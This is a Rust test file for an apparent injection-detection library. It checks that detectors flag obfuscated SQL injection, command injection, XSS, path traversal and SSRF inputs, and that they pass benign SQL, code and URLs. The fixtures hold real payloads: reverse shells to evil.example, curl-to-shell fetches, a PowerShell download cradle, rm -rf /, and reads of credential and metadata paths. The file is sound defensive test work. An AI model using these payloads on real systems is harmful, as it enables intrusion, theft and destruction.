//! What somebody writes who knows the readers, and what honest programs write in the same words.

use super::tests::{all_fire, none_fires};
use super::*;

#[test]
fn sql_in_disguise_fires() {
    all_fire(
        Category::SqlInjection,
        &[
            "' OR 2>1 --",
            "' OR 'a' LIKE 'a",
            "' OR 1 IN (1)--",
            "' OR NOT 1=2--",
            "' or 1 between 0 and 2--",
            "' oR/**/1/**/=/**/1#",
            "'||'a'='a",
            "' && 1=1 -- -",
            "1 AND 1=1 UNION SELECT 1,2,3",
            "-1 UNION\nSELECT\tpassword FROM users",
            "-1 UNION%0ASELECT password FROM users",
            "-1 uNiOn aLl sElEcT 1,@@version,3",
            "-1 UNION(SELECT(1),(2))",
            "1;SELECT pg_sleep(10)",
            "1 OR SLEEP(5)#",
            "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
            "1 OR IF(1=1,SLEEP(5),0)",
            "'; DECLARE @x varchar(99); EXEC(@x)--",
            "' AND extractvalue(1,concat(0x7e,version()))--",
            "' AND updatexml(1,concat(0x7e,(select user())),1)--",
            "' UNION SELECT char(97,100), 0x61646d696e--",
            "1) OR (1=1",
            "x') OR ('x')=('x",
            "admin\" or \"1\"=\"1\"--",
            "' or ''='",
            "' OR 1=1 LIMIT 1 -- -",
            "1;ALTER TABLE users DROP COLUMN password",
            "'; shutdown --",
            "' INTO OUTFILE '/var/www/x.php'--",
            "' or 1=1 -- x",
            "1 or 1 like 1",
            "x' = 'x' or 'a'='a",
            "' = 'x' or owner = 'y",
            "' OR TRUE#",
            "%2527%2520OR%25201%253D1--",
        ],
    );
}

#[test]
fn statements_and_prose_about_tables_stay_silent() {
    none_fires(
        Category::SqlInjection,
        &[
            "SELECT name, age FROM people WHERE city = 'Bern' ORDER BY name",
            "SELECT COUNT(*) FROM orders WHERE total > 100 AND status = 'open'",
            "INSERT INTO notes (title, body) VALUES ('a', 'b')",
            "UPDATE users SET name = 'Jo' WHERE id = 7",
            "CREATE TABLE t (id INTEGER PRIMARY KEY, name TEXT);",
            "select a table; drop me a line",
            "Please order by number 3 on the menu",
            "I'd say 'yes' and 'no' are both right",
            "rock'n'roll or jazz",
            "the value of x = 1 or y = 2",
            "WHERE is it? FROM here to there",
            "She's the boss -- and he's not",
            "status = 'open' and owner = 'jo'",
            "name = 'a' or name = 'b' or name = 'c'",
            "if (a == 1 || b == 2) { c(); }",
            "1 or 2 in 10 people, 5 or 6 between 7 and 8",
            "title: 'A or B'; tags: ['x', 'y']",
            "union of sets, select few, from all walks of life",
        ],
    );
}

#[test]
fn shell_in_disguise_fires() {
    all_fire(
        Category::CommandInjection,
        &[
            "x;w'h'oami",
            "x;wh\"o\"ami",
            "x;who$@ami",
            "x;/???/??t /???/p??s??",
            "x $(printf 'id')",
            "x|base64 -d|sh",
            "x;echo aWQ=|base64 -d|bash",
            "x;{curl,evil.example}|sh",
            "x;cat</etc/passwd",
            "x;cat$IFS/etc/passwd",
            "x\r\nwhoami",
            "x&&id",
            "x||id",
            "x&id&",
            "x & dir C:\\",
            "x & type C:\\boot.ini",
            "x | powershell -nop -w hidden -enc SQBFAFgA",
            "x;IEX(New-Object Net.WebClient).DownloadString('http://evil.example')",
            "x & w^h^o^a^m^i",
            "x;nc evil.example 4444 -e /bin/sh",
            "x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "x;python3 -c 'import os;os.system(\"id\")'",
            "x;perl -e 'system(1)'",
            "x;wget http://evil.example/a -O-|sh",
            "x;eval $(echo id)",
            "`curl evil.example`",
            "a$(id)b",
            "$((1+$(id)))",
            "x;rm -rf --no-preserve-root /",
            "x;export PATH=/tmp:$PATH",
            "x > /dev/null; id",
        ],
    );
}

#[test]
fn code_and_markdown_stay_silent_for_the_shell() {
    none_fires(
        Category::CommandInjection,
        &[
            "for (i = 0; i < n; i++) { sum += a[i]; }",
            "let x = a || b; let y = c && d;",
            "<a href=\"?x=1&y=2\">link</a>",
            "**Note**; see `README.md` and `cargo test`",
            "price is $5; tax is $1",
            "cost: $(total) USD",
            "R&D; Q&A; M&A",
            "a | b | c\n--|--|--\n1 | 2 | 3",
            "first line\nsecond line\nthird line",
            "Dear Jo,\nthanks; I will echo your words.\nBest",
            "x > y and y < z",
            "mailto:a@b.example?subject=hi&body=id",
            "0 0 * * * daily",
            "name=value; path=/; secure",
            "regex: ^(a|b)$",
            "Use tabs & spaces; set the width",
        ],
    );
}

#[test]
fn script_in_disguise_fires() {
    all_fire(
        Category::Xss,
        &[
            "<svg><script>alert(1)</script></svg>",
            "<svg onload=alert(1)>",
            "<IMG SRC=x OnErRoR=alert`1`>",
            "<a href=jav&#x09;ascript:alert(1)>x</a>",
            "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
            "<a href=' javascript:alert(1)'>x</a>",
            "<form action=javascript:alert(1)>",
            "<button formaction=javascript:alert(1)>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<video><source onerror=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<div style=\"width:expression(alert(1))\">",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<x onclick=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=`x`onerror=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<svg><a xlink:href=\"javascript:alert(1)\">",
            "\"><svg onload=alert(1)>",
            "</title><script>alert(1)",
            "<object data=\"data:text/html,<script>\">",
            "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1)>",
            "%253Cscript%253E",
            "<scr\u{0}ipt>alert(1)</script>",
        ],
    );
}

#[test]
fn paths_in_disguise_fire() {
    all_fire(
        Category::PathTraversal,
        &[
            "..%252f..%252fetc%252fpasswd",
            "..%c0%afetc",
            "..%e0%80%afetc",
            "..%u2215etc",
            "%2e%2e\\",
            "..;/..;/manager",
            "....\\\\....\\\\x",
            "..././..././etc/passwd",
            "\\\\attacker.example\\share\\x",
            "//?/C:/Windows/win.ini",
            "\\\\?\\C:\\Windows",
            "\\\\.\\PhysicalDrive0",
            "file:///etc/passwd",
            "file:..\\..\\x",
            "c:/windows/win.ini",
            "/etc//passwd",
            "/etc/./shadow",
            "/root/.bash_history",
            "~root/.ssh/authorized_keys",
            "$HOME/.ssh/id_ed25519",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/proc/1/environ",
            "/var/run/docker.sock",
            "images/..\\..\\secret",
            "x/../../../y",
            "a.txt\u{0}.png",
            ".env",
            "/app/.env",
            "/home/jo/.kube/config",
            "..\u{ff0f}..\u{ff0f}etc",
        ],
    );
}

#[test]
fn addresses_in_disguise_fire() {
    all_fire(
        Category::Ssrf,
        &[
            "http://127.000.000.001/",
            "http://0x7f.0.0.1/",
            "http://0177.1/",
            "http://017700000001/",
            "http://127.0.1/",
            "http://0.0.0.0:8080/",
            "http://[::]/",
            "http://[0:0:0:0:0:ffff:10.0.0.1]/",
            "http://[::ffff:a9fe:a9fe]/latest",
            "http://[::127.0.0.1]/",
            "http://[2002:7f00:1::]/",
            "http://[64:ff9b::10.0.0.1]/",
            "http://[fd12:3456::1]/",
            "http://[fe80::1%eth0]/",
            "http://169.254.170.2/v2/credentials",
            "http://100.100.100.200/latest/meta-data/",
            "http://192.0.0.192/opc/v1/",
            "http://metadata/computeMetadata/v1/",
            "http://instance-data/latest/",
            "http://metadata.azure.internal/",
            "http://a.10.0.0.1.nip.io/",
            "http://10-0-0-1.sslip.io/",
            "http://127.0.0.1.xip.io/",
            "http://localtest.me/",
            "http://lvh.me:3000/",
            "http://good.example@127.0.0.1/",
            "http://good.example:80@169.254.169.254/",
            "http://127.0.0.1#@good.example/",
            "http://127.0.0.1?@good.example/",
            "http:127.0.0.1/",
            "http:///127.0.0.1/",
            "ht\ttp://127.0.0.1/",
            " http://127.0.0.1/",
            "\\\\127.0.0.1\\share",
            "/\\127.0.0.1/",
            "jar:http://127.0.0.1!/",
            "ldap://127.0.0.1/x",
            "tftp://127.0.0.1/x",
            "php://filter/resource=x",
            "netdoc:///etc/passwd",
            "http://kubernetes.default.svc/",
            "http://host.docker.internal/",
            "http://printer.local/",
            "http://\u{2461}\u{2460}\u{2466}.0.0.1.nip.io/ http://\u{ff11}\u{ff12}\u{ff17}.0.0.1/",
            "http://127\u{ff0e}0\u{ff0e}0\u{ff0e}1/",
            "http://LOCALHOST\u{3002}/",
            "http://localhost%00.example.com/",
        ],
    );
}

#[test]
fn public_addresses_and_file_names_stay_silent() {
    none_fires(
        Category::Ssrf,
        &[
            "https://docs.example.com/v1.2.3/index.html",
            "https://example.com:8443/path?next=/home#frag",
            "https://user:pw@example.com/",
            "https://203.0.114.7/",
            "version 10.0.1 of the tool",
            "see RFC 1918, section 3",
            "localhost is a word",
            "the metadata of the file",
            "img/data/a.png",
            "12:30 to 13:45",
            "a:b:c",
            "https://nip.io/",
            "https://local.example.com/",
            "https://xn--bcher-kva.example/",
            "http-equiv and https",
        ],
    );
    none_fires(
        Category::PathTraversal,
        &[
            "src/main.rs",
            "docs/env/.envrc.md",
            "reports/2024..2025.csv",
            "C:\\Users\\jo\\Documents\\a.docx",
            "environment",
            "passwd is a command",
            "./a/./b",
            "a/b/../c",
            "file.tar.gz",
            "notes (final)...txt",
            "/home/jo/project/src/lib.rs",
            "/usr/share/doc/readme",
            "1/2, 3/4",
            "https://example.com/a/../b",
            "image..png",
        ],
    );
}
